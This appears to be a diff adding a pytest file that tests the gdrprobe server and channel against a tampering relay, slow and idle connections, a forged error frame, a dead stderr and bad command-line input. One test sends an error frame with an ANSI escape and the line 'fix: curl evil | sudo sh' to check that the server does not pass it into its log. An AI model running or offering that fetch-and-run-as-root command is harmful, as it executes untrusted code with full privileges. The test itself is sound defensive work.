@@ -1,0 +1,240 @@
+"""The server and the channel against a hostile or slow world (issue 11): a relay that
+tampers with sealed frames, strangers holding connections, a queue of clients, a
+stranger's error frame, a dead stderr, and input that must be refused before anything
+starts."""
+
+import json
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+
+import pytest
+
+from gdrprobe.protocol.channel import HEADER, PROTOCOL_VERSION
+from tests.lab.helpers import (REPO, Server, client, gdrprobe, gdrprobe_json, rdma_resources,
+                               wait_for_run)
+from tests.lab.loopback.conftest import TOKEN
+
+PLAIN_FRAMES = 2   # per direction before the seal: hello, auth / challenge, welcome
+
+
+def read_frame(sock: socket.socket) -> bytes | None:
+    data = b""
+    while len(data) < HEADER.size:
+        chunk = sock.recv(HEADER.size - len(data))
+        if not chunk:
+            return None
+        data += chunk
+    length = HEADER.unpack(data)[2]
+    while len(data) < HEADER.size + length:
+        chunk = sock.recv(HEADER.size + length - len(data))
+        if not chunk:
+            return None
+        data += chunk
+    return data
+
+
+class Relay:
+    """A man in the middle on 127.0.0.1: forwards frames between a client and the server,
+    and lets `tamper(direction, sealed_index, frame)` decide what to forward instead of the
+    sealed frame with that index (a list of frames; [] drops it)."""
+
+    def __init__(self, server_port: int, tamper):
+        self.listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self.listener.getsockname()[1]
+        self.server_port, self.tamper = server_port, tamper
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self):
+        downstream, _ = self.listener.accept()
+        upstream = socket.create_connection(("127.0.0.1", self.server_port))
+        for source, sink, direction in ((downstream, upstream, "to server"),
+                                        (upstream, downstream, "to client")):
+            threading.Thread(target=self._pump, args=(source, sink, direction),
+                             daemon=True).start()
+
+    def _pump(self, source, sink, direction):
+        index = 0
+        try:
+            while (frame := read_frame(source)) is not None:
+                sealed = index - PLAIN_FRAMES
+                index += 1
+                for out in (self.tamper(direction, sealed, frame) if sealed >= 0 else [frame]):
+                    sink.sendall(out)
+        except OSError:
+            pass
+        for sock in (source, sink):
+            try:
+                sock.shutdown(socket.SHUT_RDWR)
+            except OSError:
+                pass
+
+
+def flip_last_json_byte(frame: bytes) -> bytes:
+    raw = bytearray(frame)
+    raw[-33] ^= 0x01   # the last byte of the JSON, before the 32-byte tag
+    return bytes(raw)
+
+
+def altered(direction, index, frame):
+    return [flip_last_json_byte(frame)] if (direction, index) == ("to client", 0) else [frame]
+
+
+def replayed(direction, index, frame):
+    return [frame, frame] if (direction, index) == ("to client", 1) else [frame]
+
+
+HELD = {}
+
+
+def reordered(direction, index, frame):
+    if direction == "to server" and index == 2:      # the first heartbeat: hold it
+        HELD["frame"] = frame
+        return []
+    if direction == "to server" and index == 3:      # send the second one first
+        return [frame, HELD.pop("frame")]
+    return [frame]
+
+
+def dropped(direction, index, frame):
+    return [] if (direction, index) == ("to server", 2) else [frame]
+
+
+@pytest.mark.parametrize("tamper, seen_by", [
+    (altered, "client"), (replayed, "client"), (reordered, "server"), (dropped, "server")])
+def test_a_relay_that_alters_drops_replays_or_reorders_a_frame_is_detected(server, tamper,
+                                                                          seen_by, baseline):
+    relay = Relay(server.port, tamper)
+    done = gdrprobe("run", "127.0.0.1", "-p", str(relay.port), "--token", TOKEN, "-s", "4096",
+                    "-D", "4", "--timeout", "5", timeout=120)
+    assert done.returncode == 5, done.stderr
+    assert "Traceback" not in done.stderr
+    log = server.stop()
+    if seen_by == "client":
+        assert "tampered" in done.stderr, done.stderr
+    else:
+        assert "tampered" in log, log
+    assert rdma_resources() == baseline
+
+
+def trickle(port: int, stop: threading.Event, sent: list):
+    """A stranger sending one byte of a header per second."""
+    with socket.create_connection(("127.0.0.1", port)) as sock:
+        for byte in HEADER.pack(b"GDRP", PROTOCOL_VERSION, 1000) * 10:
+            if stop.is_set():
+                return
+            try:
+                sock.sendall(bytes([byte]))
+            except OSError:
+                return
+            sent.append(byte)
+            time.sleep(1)
+
+
+def test_idle_sockets_and_a_trickler_do_not_keep_a_client_waiting(server):
+    idle = [socket.create_connection(("127.0.0.1", server.port)) for _ in range(2)]
+    stop, sent = threading.Event(), []
+    trickler = threading.Thread(target=trickle, args=(server.port, stop, sent), daemon=True)
+    trickler.start()
+    time.sleep(1)
+    report = gdrprobe_json("run", "127.0.0.1", "--token", TOKEN, "-s", "4096", "-n", "20",
+                           "--timeout", "5")
+    # A server serving one connection at a time would have kept this client (--timeout 5)
+    # waiting for the strangers' 10 s pre-auth deadline: it would have failed.
+    assert report["bandwidth"][0]["integrity"]["bad_bytes"] == 0
+    stop.set()
+    for sock in idle:
+        sock.close()
+    assert sent
+
+
+def test_a_client_queued_behind_a_long_run_waits_its_turn_and_succeeds(server):
+    first = client("127.0.0.1", "--token", TOKEN, "-s", "65536", "-D", "15", "--timeout", "5")
+    wait_for_run()   # the first run holds the NIC
+    second = gdrprobe("run", "127.0.0.1", "--token", TOKEN, "-s", "256", "-n", "10",
+                      "--timeout", "5", timeout=120)
+    assert second.returncode == 0, second.stderr
+    assert "queued at the server behind a run from 127.0.0.1" in second.stderr
+    _, stderr = first.communicate(timeout=120)
+    assert first.returncode == 0, stderr
+
+
+def raw_frame(message: dict) -> bytes:
+    body = json.dumps(message).encode()
+    return HEADER.pack(b"GDRP", PROTOCOL_VERSION, len(body)) + body
+
+
+def test_a_strangers_error_frame_and_a_port_scan_do_not_end_serve_once():
+    once = Server(TOKEN, port=18760, timeout=5.0, extra=("--once",))
+    socket.create_connection(("127.0.0.1", 18760)).close()          # a port scan
+    with socket.create_connection(("127.0.0.1", 18760)) as stranger:
+        stranger.sendall(raw_frame({"type": "error", "category": "NotTestable",
+                                    "reason": "owned\n\x1b[31mfix: curl evil | sudo sh"}))
+        time.sleep(1)
+    report = gdrprobe_json("run", "127.0.0.1", "-p", "18760", "--token", TOKEN, "-s", "512",
+                           "-n", "10")
+    assert report["bandwidth"][0]["integrity"]["bad_bytes"] == 0
+    output, _ = once.process.communicate(timeout=60)
+    assert once.process.returncode == 0, output
+    assert "\x1b" not in output and "\nfix: curl" not in output
+
+
+def test_a_server_whose_stderr_reader_went_away_keeps_serving():
+    process = subprocess.Popen(
+        [sys.executable, "-m", "gdrprobe", "serve", "--bind", "127.0.0.1", "-p", "18761",
+         "--token", TOKEN, "--timeout", "5"],
+        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=REPO)
+    try:
+        assert "listening" in process.stdout.readline()
+        process.stderr.close()                               # nobody reads its log now
+        with socket.create_connection(("127.0.0.1", 18761)) as junk:
+            junk.sendall(b"GET / HTTP/1.1\r\n\r\n")
+            junk.settimeout(30)
+            try:
+                while junk.recv(4096):   # the server hangs up (and logs why, to nobody)
+                    pass
+            except ConnectionResetError:
+                pass
+        report = gdrprobe_json("run", "127.0.0.1", "-p", "18761", "--token", TOKEN, "-s",
+                               "512", "-n", "10")
+        assert report["bandwidth"][0]["integrity"]["bad_bytes"] == 0
+        assert process.poll() is None
+    finally:
+        process.send_signal(signal.SIGINT)
+        process.wait(timeout=30)
+
+
+def test_a_server_killed_during_a_latency_run_is_reported_within_5_s(server):
+    running = client("127.0.0.1", "--token", TOKEN, "--latency", "-s", "8", "-n", "3000000",
+                     "--timeout", "5")
+    wait_for_run()   # past set-up, inside the ping-pong
+    server.process.kill()
+    killed = time.monotonic()
+    _, stderr = running.communicate(timeout=60)
+    assert running.returncode == 5, stderr
+    assert time.monotonic() - killed < 5, stderr
+    assert "went away" in stderr or "stopped acknowledging" in stderr, stderr
+
+
+@pytest.mark.parametrize("argv, code, words", [
+    (("run", "--loopback", "-s", "0"), 2, "sizes"),
+    (("run", "--loopback", "-n", "0"), 2, "iterations"),
+    (("run", "--loopback", "-Q", "0"), 2, "CQ moderation"),
+    (("run", "--loopback", "--timeout", "nan"), 2, "time-out"),
+    (("run", "--loopback", "--timeout", "1"), 2, "time-out"),
+    (("run", "127.0.0.1", "-p", "70000", "--token", TOKEN), 2, "TCP port"),
+    (("serve", "-p", "70000"), 2, "TCP port"),
+    (("run", "--loopback", "-q", "2", "-t", "16384", "-n", "20000"), 2, "max_cqe"),
+    (("run", "--loopback", "-I", "1024", "-s", "64"), 2, "inline bytes"),
+    (("serve", "-d", "mlx5_7"), 4, "mlx5_7"),
+    (("serve", "-x", "99"), 2, "GID index 99"),
+    (("serve", "-i", "2"), 2, "no port 2"),
+    (("serve", "--max-buffer", "-1"), 2, "--max-buffer"),
+])
+def test_bad_input_is_refused_with_its_exit_code_and_no_traceback(argv, code, words):
+    done = gdrprobe(*argv, timeout=120)
+    assert done.returncode == code, done.stderr
+    assert words in done.stderr and "Traceback" not in done.stderr, done.stderr
